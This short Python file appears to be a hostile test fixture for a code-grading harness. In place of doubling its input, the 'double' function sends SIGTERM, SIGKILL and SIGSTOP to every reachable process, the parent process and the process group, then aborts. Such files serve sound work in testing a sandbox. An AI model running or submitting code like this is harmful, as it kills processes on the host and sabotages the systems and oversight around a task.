# ruff: noqa
# Sends signals to every process that it can reach.
# fails: test_double

# %% answer="double"
import os
import signal


def double(x):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        for target in (-1, os.getppid(), 0):
            try:
                os.kill(target, number)
            except OSError:
                continue
    os.abort()
